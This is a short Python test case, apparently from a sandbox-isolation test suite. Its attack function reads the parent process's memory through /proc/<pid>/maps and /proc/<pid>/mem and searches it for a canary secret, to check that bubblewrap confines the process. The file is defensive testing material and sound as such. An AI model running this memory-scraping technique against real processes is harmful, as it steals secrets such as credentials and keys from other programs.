"""
tries = "Searches the memory of the process that started it for secrets"
expect = "The parent inside is bubblewrap's init, which knows none"
proof = "outside"
quiet = true
"""

import os, re


def attack(targets):
    parent = os.getppid()
    word = re.compile(b"canary" + b"-[0-9a-f]{24}")
    with open(f"/proc/{parent}/mem", "rb", 0) as memory:
        for line in open(f"/proc/{parent}/maps"):
            place, mode = line.split()[:2]
            start, end = (int(n, 16) for n in place.split("-"))
            if not mode.startswith("rw") or end - start > 2**28:
                continue
            try:
                found = word.search(os.pread(memory.fileno(), end - start, start))
            except (OSError, OverflowError):
                continue
            if found:
                return found.group().decode()
    return ""
